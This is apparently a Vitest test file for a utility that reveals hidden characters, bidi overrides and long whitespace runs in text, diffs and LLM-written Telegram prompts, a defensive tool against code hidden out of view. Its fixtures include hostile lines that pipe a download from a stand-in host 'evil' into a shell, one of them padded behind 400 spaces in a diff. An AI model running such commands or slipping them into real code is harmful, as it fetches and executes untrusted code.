import { describe, expect, it } from "vitest";
import { CATALOGS } from "../../lib/i18n/catalog.ts";
import { escapeHiddenInJson, reveal, revealDiff } from "../../lib/text/reveal.ts";

const en = CATALOGS.en;

describe("reveal", () => {
  it("leaves ordinary text, short indentation, emoji and CJK alone", () => {
    for (const text of ["npm test -- --reporter=dot", "if x:\n        print(1)\n\nend", "a\tb", "👨‍👩‍👧‍👦 🇺🇦 🏳️‍🌈 👍🏽 1️⃣ 🏴󠁧󠁢󠁳󠁣󠁴󠁿 ❤️", "漢字 한국어 עברית", "é ö"]) {
      expect(reveal(text, en)).toBe(text);
    }
  });

  it("counts long runs of blanks and line breaks", () => {
    expect(reveal(`a${" ".repeat(1480)}b`, en)).toBe("a⟨1480 spaces⟩b");
    expect(reveal("a\t\tb", en)).toBe("a⟨2 tabs⟩b");
    expect(reveal(`a \t${" ".repeat(8)}b`, en)).toBe("a⟨9 spaces and 1 tabs⟩b");
    expect(reveal(`a${"\n".repeat(300)}b`, en)).toBe("a\n⟨300 line breaks⟩\nb");
    expect(reveal(`a${" ".repeat(1480)}b`, CATALOGS.zh)).toBe("a⟨1480 个空格⟩b");
  });

  it("marks bidi, zero-width, control, tag and look-alike space characters by code point", () => {
    expect(reveal("a\u202Eb\u2066c\u200Bd\u200De\uFEFFf\u00ADg", en)).toBe("a⟨U+202E⟩b⟨U+2066⟩c⟨U+200B⟩d⟨U+200D⟩e⟨U+FEFF⟩f⟨U+00AD⟩g");
    expect(reveal("a\rb\u0000c\u001bd\u007fe\u0085", en)).toBe("a⟨U+000D⟩b⟨U+0000⟩c⟨U+001B⟩d⟨U+007F⟩e⟨U+0085⟩");
    expect(reveal("a\u00A0b\u3000c\u2028d\u3164e", en)).toBe("a⟨U+00A0⟩b⟨U+3000⟩c⟨U+2028⟩d⟨U+3164⟩e");
    expect(reveal("x\u{E0041}\u{E0042}", en)).toBe("x⟨U+E0041⟩⟨U+E0042⟩");
    expect(reveal("a\uD800b", en)).toBe("a⟨U+D800⟩b");
  });

  it("writes hidden characters as \\u escapes in JSON, keeping its layout", () => {
    const json = JSON.stringify({ c: "a\u202Eb\u200B\nc" }, null, 2);
    const escaped = escapeHiddenInJson(json);
    expect(escaped).toBe('{\n  "c": "a\\u202eb\\u200b\\nc"\n}');
    expect(JSON.parse(escaped)).toEqual({ c: "a\u202Eb\u200B\nc" });
  });
});

describe("what the LLM writes on a question is revealed too", () => {
  it("question, header, options, buttons and the session title show hidden characters as markers", async () => {
    const { renderQuestion } = await import("../../lib/telegram/render/render-question.ts");
    const { createQuestionPrompt } = await import("../../lib/registry/question-prompt.ts");
    const prompt = createQuestionPrompt(
      {
        id: "que_1",
        sessionID: "s",
        questions: [
          {
            question: `Deploy?${" ".repeat(500)}(also wipes prod)`,
            header: "A\u202Eb",
            options: [
              { label: "yes\u200B", description: "d\u2066" },
              { label: "no", description: "" },
            ],
            multiple: false,
            custom: false,
          },
        ],
      },
      "/p",
      "KEYKEYKE",
      0,
    );
    const message = renderQuestion(prompt, { project: "p", sessionTitle: "fix\u202Ebug" });
    expect(message.text).toContain("Deploy?⟨500 spaces⟩(also wipes prod)");
    expect(message.text).toContain("A⟨U+202E⟩b");
    expect(message.text).toContain("yes⟨U+200B⟩");
    expect(message.text).toContain("d⟨U+2066⟩");
    expect(message.text).toContain("fix⟨U+202E⟩bug");
    expect(message.keyboard.flat()[0]!.text).toBe("yes⟨U+200B⟩");
  });
});

describe("revealDiff", () => {
  it("keeps a diff's ordinary indentation and alignment, and marks a run of blanks that could push code out of view", () => {
    const ordinary = `--- a/x.js\n+++ b/x.js\n@@ -1,2 +1,3 @@\n function f() {\n-\treturn 1;\n+${" ".repeat(40)}return 2;  // two\n+\t\t\tx = { a:      1 };\n }`;
    expect(revealDiff(ordinary, en)).toBe(ordinary);
    const hidden = `+module.exports = {};${" ".repeat(400)}require('child_process').execSync('curl evil|sh');`;
    expect(revealDiff(hidden, en)).toBe("+module.exports = {};⟨400 spaces⟩require('child_process').execSync('curl evil|sh');");
    expect(revealDiff(`+${" ".repeat(200)}payload()\n+ok`, en)).toBe("+⟨200 spaces⟩payload()\n+ok");
    expect(revealDiff(`+a\t\t\tb`, en)).toBe("+a⟨3 tabs⟩b");
    expect(revealDiff("+a\u202Eb\n\n\n\n+c", en)).toBe("+a⟨U+202E⟩b\n\n\n\n+c");
  });
});

describe("blank runs split by combining marks (the fourth review)", () => {
  const split = (count: number) => " \u0301".repeat(count);

  it("a blank with its combining marks counts in the run: a payload 300 columns away is marked", () => {
    expect(reveal(`rm -rf build${split(300)}&& curl evil.example | sh`, en)).toBe("rm -rf build⟨300 spaces⟩&& curl evil.example | sh");
    expect(reveal(`a${" ".repeat(4)}${split(10)}\tb`, en)).toBe("a⟨14 spaces and 1 tabs⟩b");
    // A short run keeps its marks as they are; an accented letter is no blank.
    expect(reveal(`a${split(3)}b é`, en)).toBe(`a${split(3)}b é`);
  });

  it("in a diff too, after the indentation and inside a line", () => {
    expect(revealDiff(`+module.exports = {};${split(200)}require('x')`, en)).toBe("+module.exports = {};⟨200 spaces⟩require('x')");
    expect(revealDiff(`+${split(60)}payload()`, en)).toBe("+⟨60 spaces⟩payload()");
    expect(revealDiff(`+    ${split(4)}ok()`, en)).toBe(`+    ${split(4)}ok()`);
  });
});
